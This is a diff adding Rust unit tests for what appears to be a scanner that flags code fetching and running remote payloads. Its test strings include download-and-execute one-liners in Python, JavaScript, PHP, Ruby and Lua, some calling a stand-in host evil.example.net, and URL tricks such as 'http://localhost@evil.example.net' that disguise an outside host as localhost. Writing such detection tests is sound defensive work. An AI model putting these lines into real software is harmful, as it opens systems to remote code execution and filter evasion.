@@ -322,4 +322,64 @@ mod tests {
         let other = "import requests; exec(requests.get('http://localhost.example.com/x').text)";
         assert_eq!(run_from_the_network(other, other), Some(Remote::Open));
     }
+
+    #[test]
+    fn only_a_whole_host_of_its_own_is_its_own() {
+        for code in [
+            "http://localhost/x",
+            "http://127.0.0.1:8080/x",
+            "HTTP://LOCALHOST?x",
+            "http://[::1]:80/",
+        ] {
+            assert!(asks_itself(code), "{code}");
+        }
+        for code in [
+            "'http://localhost:x@evil.example.net/x'",
+            "'http://localhost@evil.example.net/x'",
+            "'http://localhost/x' 'HTTP://evil.example.net/x'",
+            "'http://localhost/x' 'ftp://evil.example.net/x'",
+            "'http://localhost'+'.evil.example.net/x'",
+            "'http://localhost:'+x",
+        ] {
+            assert!(!asks_itself(code), "{code}");
+        }
+        for code in [
+            "include('http://localhost:x@evil.example.net/x');",
+            "import pickle, requests; pickle.load(requests.get('http://localhost:x@evil.example.net/x', stream=True).raw)",
+        ] {
+            assert_eq!(run_from_the_network(code, code), Some(Remote::Open), "{code}");
+        }
+    }
+
+    #[test]
+    fn code_of_its_own_services_is_looked_at() {
+        for code in [
+            "include('http://localhost:8080/x');",
+            "include 'http://localhost:8080/x';",
+            "require 'net/http'; instance_eval(Net::HTTP.get(URI('http://localhost/x')))",
+            "loadstring(http.request('http://localhost/x'))()",
+            "assert(file_get_contents('http://localhost/x'));",
+        ] {
+            assert_eq!(run_from_the_network(code, code), Some(Remote::Named), "{code}");
+        }
+    }
+
+    #[test]
+    fn what_is_kept_or_named_otherwise_stays_found() {
+        for code in [
+            "import os, requests; print(requests.get('https://example.com/x').text, file=open('/opt/x', 'w')); os.system('sh /opt/x')",
+            "import os, zipfile, requests; zipfile.ZipFile(f(requests.get('https://example.com/x'))).extractall('/opt'); os.system('systemctl start x')",
+            "import os, requests; save(requests.get('https://example.com/x')); os.system('/opt/x/run')",
+            "import os, requests; save(requests.get('https://example.com/x')); os.system('bash -l')",
+            "import pickle as json, requests; json.load(requests.get('https://example.com/x', stream=True).raw)",
+            "import evil as re, requests; re.compile(requests.get('https://example.com/x').text)",
+            "const c = require('child_process'); fetch('https://example.com/x').then(r => r.text()).then(t => a/c.exec(t)); eval(x)",
+            "fetch('https://example.com/x').then(r => r.text()).then(t => vm.runInThisContext(t))",
+            "fetch('https://example.com/x').then(r => r.text()).then(t => Function(t)())",
+            "fetch('https://example.com/x').then(r => r.text()).then(t => m._compile(t, ''))",
+            "import requests; exec (requests.get('https://example.com/x').text)",
+        ] {
+            assert_eq!(run_from_the_network(code, code), Some(Remote::Named), "{code}");
+        }
+    }
 }
